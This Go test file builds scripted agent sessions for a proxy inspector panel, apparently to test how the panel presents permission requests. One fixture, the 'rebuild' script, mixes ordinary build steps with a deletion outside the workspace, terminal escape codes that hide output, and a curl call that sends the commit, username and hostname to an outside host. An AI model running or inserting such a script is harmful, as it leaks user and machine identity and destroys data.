package panel

import (
	"encoding/json"
	"fmt"
	"strings"
	"time"

	"bobproxy/acp"
	"bobproxy/inspector/feed"
	"bobproxy/proxy/broker"
	"bobproxy/proxy/control"
	"bobproxy/proxy/journal"
)

// dawn is when every scene starts.
var dawn = time.Date(2026, 9, 30, 12, 4, 2, 112e6, time.UTC)

// tape is what one proxy has to tell.
type tape struct {
	state   control.State
	at      time.Time
	events  []journal.Event
	cards   map[uint64]*control.Pending
	methods map[string]string // of open requests, by direction and id
	told    uint64            // events that were told and not kept
}

func newTape(instance, command, cwd string, pid int) *tape {
	t := &tape{at: dawn, cards: map[uint64]*control.Pending{}, methods: map[string]string{}}
	t.state = control.State{
		Instance: instance, PID: pid, Version: "0.1.0", Command: strings.Fields(command), Cwd: cwd,
		Started: dawn, Protocol: 1, Recording: "/home/me/.local/state/bobproxy/2026-09-30T120402Z-" + instance + ".jsonl",
		Bounds: "enforce", Timeout: "2m0s", Watchers: 1,
	}
	t.note(journal.Event{Type: journal.StartEvent, Start: &journal.Start{Command: t.state.Command, PID: pid, Cwd: cwd, Version: "0.1.0"}})
	return t
}

// wait lets time pass.
func (t *tape) wait(d time.Duration) *tape {
	t.at = t.at.Add(d)
	return t
}

func (t *tape) note(e journal.Event) *journal.Event {
	e.Time, e.Seq, e.Instance = t.at, uint64(len(t.events)+1), t.state.Instance
	t.events = append(t.events, e)
	return &t.events[len(t.events)-1]
}

func (t *tape) client(format string, args ...any) *tape { return t.frame(acp.Client, format, args...) }
func (t *tape) agent(format string, args ...any) *tape  { return t.frame(acp.Agent, format, args...) }

func (t *tape) frame(from acp.Direction, format string, args ...any) *tape {
	body := fmt.Appendf(nil, format, args...)
	var f acp.Frame
	acp.Scan(body, &f)
	e := journal.Event{
		Type: journal.FrameEvent, Dir: from, Kind: f.Kind, EOL: acp.LF, Method: string(f.Method), ID: f.ID,
		Session: string(f.Session), Bytes: int64(len(body)), Form: journal.FrameBody, Body: body,
	}
	key := func(d acp.Direction) string { return d.String() + string(f.ID) }
	switch f.Kind {
	case acp.Request:
		t.methods[key(from)] = e.Method
	case acp.Response, acp.Error:
		e.Method = t.methods[key(from.Peer())]
	case acp.Text:
		e.Form = journal.RawBody
	}
	t.note(e)
	return t
}

// update is a session/update of the agent.
func (t *tape) update(session, format string, args ...any) *tape {
	return t.agent(`{"jsonrpc":"2.0","method":"session/update","params":{"sessionId":%q,"update":{%s}}}`, session, fmt.Sprintf(format, args...))
}

// say is text of the agent, in chunks of a word.
func (t *tape) say(session, kind, text string) *tape {
	for _, word := range strings.SplitAfter(text, " ") {
		t.wait(40*time.Millisecond).update(session, `"sessionUpdate":%q,"content":{"type":"text","text":%s}`, kind, quote(word))
	}
	return t
}

func quote(s string) string {
	q, err := json.Marshal(s)
	if err != nil {
		panic(err)
	}
	return string(q)
}

// ask is a request for permission, and its card.
func (t *tape) ask(id int, card control.Pending, toolCall string) *tape {
	var options []string
	for i := range card.Options {
		card.Options[i].Number = i + 1
		options = append(options, fmt.Sprintf(`{"optionId":%q,"name":%s,"kind":%q}`, card.Options[i].ID, quote(card.Options[i].Name), card.Options[i].Kind))
	}
	t.agent(`{"jsonrpc":"2.0","id":%d,"method":"session/request_permission","params":{"sessionId":%q,"toolCall":%s,"options":[%s]}}`,
		id, card.Session, toolCall, strings.Join(options, ","))
	card.Request, card.Instance = fmt.Sprintf("%s:%d", t.state.Instance, id), t.state.Instance
	card.ID = json.RawMessage(fmt.Sprint(id))
	card.Digest, card.Opened = fmt.Sprintf("%032x", id+0xb194), t.at
	if card.Deadline != nil {
		due := t.at.Add(card.Deadline.Sub(dawn))
		card.Deadline = &due
	}
	e := t.note(journal.Event{Type: journal.OpenedEvent, Method: acp.MethodRequestPermission, ID: []byte(fmt.Sprint(id)), Session: card.Session,
		Decision: &journal.Decision{Request: card.Request, Digest: card.Digest}})
	t.cards[e.Seq] = &card
	return t
}

// within is a deadline for ask.
func within(d time.Duration) *time.Time {
	due := dawn.Add(d)
	return &due
}

// settle is how a permission ended.
func (t *tape) settle(id int, session string, d journal.Decision) *tape {
	d.Request = fmt.Sprintf("%s:%d", t.state.Instance, id)
	d.Digest = fmt.Sprintf("%032x", id+0xb194)
	t.note(journal.Event{Type: journal.DecisionEvent, Method: acp.MethodRequestPermission, ID: []byte(fmt.Sprint(id)), Session: session, Decision: &d})
	for seq, card := range t.cards {
		if card.Request == d.Request {
			delete(t.cards, seq)
		}
	}
	return t
}

// deltas are all events as a live feed tells them.
func (t *tape) deltas() []control.Delta {
	all := make([]control.Delta, len(t.events))
	for i, e := range t.events {
		all[i] = control.Delta{Event: e, Pending: t.cards[e.Seq]}
	}
	return all
}

// play feeds a panel with the whole tape, as one that was attached at the start.
func (t *tape) play(p *Panel) {
	p.Take(feed.Attached{Greeting: control.Greeting{Instance: t.state.Instance, PID: t.state.PID, Answers: "all"}, State: t.state}, dawn)
	p.Take(feed.Happened{Instance: t.state.Instance, Deltas: t.deltas()}, t.at)
}

const tokenGo = "/home/me/src/api/src/auth/token.go"

// repairing is the talk in which a nil token is repaired; its last permission
// waits.
func repairing() *tape {
	const s = "sess_7f3a9c01"
	t := newTape("7f3a", "/home/me/.npm/bin/bob acp", "/home/me/src/api", 51234)
	hello(t, "Zed", "1.5.4")
	t.wait(16 * time.Millisecond).client(`{"jsonrpc":"2.0","id":2,"method":"session/new","params":{"cwd":"/home/me/src/api","mcpServers":[]}}`)
	t.wait(1250*time.Millisecond).agent(`{"jsonrpc":"2.0","id":2,"result":{"sessionId":%q,"modes":{"currentModeId":"default","availableModes":[{"id":"default","name":"default"},{"id":"ask","name":"ask"},{"id":"plan","name":"plan"},{"id":"yolo","name":"yolo"}]},"configOptions":[{"id":"model","name":"Model","category":"model","type":"select","currentValue":"bob-large","options":[{"value":"bob-large","name":"bob-large"}]}]}}`, s)
	t.wait(20*time.Millisecond).update(s, `"sessionUpdate":"available_commands_update","availableCommands":[{"name":"init","description":"look around"},{"name":"review","description":"review the change"}]`)
	t.wait(11219*time.Millisecond).client(`{"jsonrpc":"2.0","id":3,"method":"session/prompt","params":{"sessionId":%q,"prompt":[{"type":"text","text":"The login crashes with a nil token. Fix it."}]}}`, s)
	t.update(s, `"sessionUpdate":"session_info_update","title":"Fix nil token panic"`)
	t.wait(900*time.Millisecond).say(s, "agent_thought_chunk", "The panic must come from Expired being called on a token that was never set, so I look for its callers first.")
	t.say(s, "agent_message_chunk", "I will look at the token code first.")
	t.update(s, `"sessionUpdate":"plan","entries":[{"content":"Find where tokens are parsed","priority":"high","status":"completed"},{"content":"Reproduce the panic","priority":"high","status":"completed"},{"content":"Guard Expired() against nil","priority":"high","status":"in_progress"},{"content":"Add a test","priority":"medium","status":"pending"}]`)
	t.wait(100*time.Millisecond).update(s, `"sessionUpdate":"tool_call","toolCallId":"call_0040","title":"Read src/auth/token.go","kind":"read","status":"in_progress","locations":[{"path":%q,"line":1}]`, tokenGo)
	t.wait(2*time.Millisecond).agent(`{"jsonrpc":"2.0","id":4,"method":"fs/read_text_file","params":{"sessionId":%q,"path":%q}}`, s, tokenGo)
	t.wait(9 * time.Millisecond).client(`{"jsonrpc":"2.0","id":4,"result":{"content":"package auth\n\nimport \"time\"\n"}}`)
	t.wait(1*time.Millisecond).update(s, `"sessionUpdate":"tool_call_update","toolCallId":"call_0040","status":"completed","content":[{"type":"content","content":{"type":"text","text":"package auth"}}]`)
	t.wait(800*time.Millisecond).update(s, `"sessionUpdate":"tool_call","toolCallId":"call_0041","title":"go test ./auth","kind":"execute","status":"pending","rawInput":{"command":"go test ./auth"}`)
	t.ask(5, control.Pending{Session: s, Title: "go test ./auth", Kind: "execute", Verdict: broker.Verdict{Level: broker.LevelUnjudged, Text: "a shell command cannot be judged from its text"},
		Input: json.RawMessage(`{"command":"go test ./auth"}`), Deadline: within(2 * time.Minute), Options: usualOptions("Yes, run once", "Yes, and always allow “go test”", "No")},
		`{"toolCallId":"call_0041","title":"go test ./auth","kind":"execute","rawInput":{"command":"go test ./auth"}}`)
	t.wait(4*time.Second).settle(5, s, journal.Decision{By: "panel", Outcome: "selected", OptionID: "once", HasOption: true, OptionKind: "allow_once", Wait: 4 * time.Second, Peer: &journal.Peer{PID: 77, Exe: "/usr/bin/bobproxy", TTY: "pts/4"}})
	added(t, acp.Client, `{"jsonrpc":"2.0","id":5,"result":{"outcome":{"outcome":"selected","optionId":"once"}}}`)
	t.wait(20*time.Millisecond).update(s, `"sessionUpdate":"tool_call_update","toolCallId":"call_0041","status":"in_progress"`)
	t.wait(2290*time.Millisecond).update(s, `"sessionUpdate":"tool_call_update","toolCallId":"call_0041","status":"failed","content":[{"type":"content","content":{"type":"text","text":"panic: runtime error: invalid memory address\ngoroutine 19 [running]:\nauth.(*Token).Expired(...)\n    token.go:42\nFAIL  api/auth  0.214s\n"}}],"rawOutput":{"exitCode":1}`)
	t.note(journal.Event{Type: journal.StderrEvent, Text: "bob: context at 26 %\n"})
	t.update(s, `"sessionUpdate":"usage_update","used":53000,"size":200000,"cost":{"amount":0.05,"currency":"USD"}`)
	t.say(s, "agent_message_chunk", "The panic comes from calling Expired() on a nil *Token in middleware.go:88. I will guard it and keep the zero-value meaning \"expired\".")
	diff := `[{"type":"diff","path":` + quote(tokenGo) + `,"oldText":` + quote(oldToken) + `,"newText":` + quote(newToken) + `}]`
	t.wait(100*time.Millisecond).update(s, `"sessionUpdate":"tool_call","toolCallId":"call_0042","title":"Edit src/auth/token.go","kind":"edit","status":"pending","locations":[{"path":%q,"line":42}],"content":%s`, tokenGo, diff)
	t.wait(28*time.Millisecond).ask(6, control.Pending{Session: s, Title: "Edit src/auth/token.go", Kind: "edit",
		Verdict: broker.Verdict{Level: broker.LevelInside, Paths: []broker.Path{{Path: tokenGo, Inside: true}}, Text: "inside the workspace"},
		Content: json.RawMessage(diff), Input: json.RawMessage("null"), Deadline: within(2 * time.Minute),
		Options: usualOptions("Yes, apply this edit", "Yes, and don't ask again", "No, tell Bob what to do")},
		`{"toolCallId":"call_0042","title":"Edit src/auth/token.go","kind":"edit","status":"pending","content":`+diff+`}`)
	return t
}

const (
	oldToken = "package auth\n\nimport \"time\"\n\n// Token is what a login gives.\ntype Token struct{ exp time.Time }\n\n// Expired says whether the token is of no use.\nfunc (t *Token) Expired() bool {\n\treturn time.Now() > t.exp\n}\n"
	newToken = "package auth\n\nimport \"time\"\n\n// Token is what a login gives.\ntype Token struct{ exp time.Time }\n\n// Expired says whether the token is of no use.\nfunc (t *Token) Expired() bool {\n\tif t == nil {\n\t\treturn true\n\t}\n\treturn time.Now().After(t.exp)\n}\n"
)

func usualOptions(once, always, reject string) []control.Option {
	return []control.Option{{ID: "once", Name: once, Kind: "allow_once"}, {ID: "always", Name: always, Kind: "allow_always"}, {ID: "no", Name: reject, Kind: "reject_once"}}
}

// added is a frame of the proxy's own.
func added(t *tape, as acp.Direction, body string) {
	t.frame(as, "%s", body)
	t.events[len(t.events)-1].Added = true
}

// hello is how a talk between an editor and Bob begins.
func hello(t *tape, editor, version string) {
	t.state.Client = control.Program{Name: editor, Version: version}
	t.state.Agent = control.Program{Name: "bob", Title: "Bob", Version: "2.0.8"}
	t.client(`{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":1,"clientCapabilities":{"fs":{"readTextFile":true,"writeTextFile":true},"terminal":true},"clientInfo":{"name":%q,"version":%q}}}`, editor, version)
	t.wait(402 * time.Millisecond).agent(`{"jsonrpc":"2.0","id":1,"result":{"protocolVersion":1,"agentCapabilities":{"loadSession":true,"promptCapabilities":{"image":true}},"agentInfo":{"name":"bob","title":"Bob","version":"2.0.8"},"authMethods":[]}}`)
}

// rebuilding is another proxy's, where a long command waits; it leads outside.
func rebuilding() *tape {
	const s = "sess_c0ffee02"
	t := newTape("c0ff", "/home/me/.npm/bin/bob acp", "/home/me/src/web", 51300)
	hello(t, "WebStorm", "2026.2")
	t.wait(300 * time.Millisecond).client(`{"jsonrpc":"2.0","id":2,"method":"session/new","params":{"cwd":"/home/me/src/web","mcpServers":[]}}`)
	t.wait(700*time.Millisecond).agent(`{"jsonrpc":"2.0","id":2,"result":{"sessionId":%q}}`, s)
	t.wait(4*time.Second).client(`{"jsonrpc":"2.0","id":3,"method":"session/prompt","params":{"sessionId":%q,"prompt":[{"type":"text","text":"Rebuild everything from scratch"}]}}`, s)
	t.wait(26*time.Second).say(s, "agent_message_chunk", "I will clean the build folder and build again.")
	input := `{"command":` + quote(rebuild) + `,"cwd":"/home/me/src/web"}`
	t.wait(300*time.Millisecond).ask(5, control.Pending{Session: s, Title: "Clean and rebuild", Kind: "execute",
		Verdict: broker.Verdict{Level: broker.LevelOutside, Text: "/home/me/.cache/go-build is outside the workspace; a shell command cannot be judged from its text",
			Paths: []broker.Path{{Path: "/home/me/.cache/go-build", Reason: "outside"}}},
		Input: json.RawMessage(input), Deadline: within(5 * time.Minute), Options: usualOptions("Yes, run once", "Yes, and always allow “make” tasks", "No")},
		`{"toolCallId":"call_0043","title":"Clean and rebuild","kind":"execute","rawInput":`+input+`}`)
	return t
}

const rebuild = `set -e
rm -rf build/ "$HOME/.cache/go-build"
export CGO_ENABLED=0
printf '%s\n' "done` + "\x1b[2K\x1b[1A" + `"
for d in cmd/*; do
  go build -trimpath -o "build/$(basename "$d")" "./$d"
done
curl -fsS https://example.org/report?id=$(git rev-parse HEAD)&who=$(whoami)&host=$(hostname) >/dev/null
ls -l build
test -x build/server
./build/server --version
./build/client --version
echo all built
`

// leaving is a proxy whose agent has gone.
func leaving() *tape {
	t := newTape("dead", "codex-acp", "/home/me/src/cli", 50100)
	t.at = dawn.Add(-2 * time.Hour)
	t.state.Started = t.at
	hello(t, "nvim", "0.12")
	t.note(journal.Event{Type: journal.StderrEvent, Text: "Error: session token expired\n"})
	t.note(journal.Event{Type: journal.StderrEvent, Text: "run `bob login` and start again\n"})
	t.wait(2 * time.Second).note(journal.Event{Type: journal.ExitEvent, Exit: &journal.Exit{Status: 1}})
	return t
}

// gone plays a tape and tells that the proxy has gone.
func (t *tape) gone(p *Panel) {
	t.play(p)
	p.Take(feed.Gone{Instance: t.state.Instance, Why: "the proxy has gone"}, t.at)
}
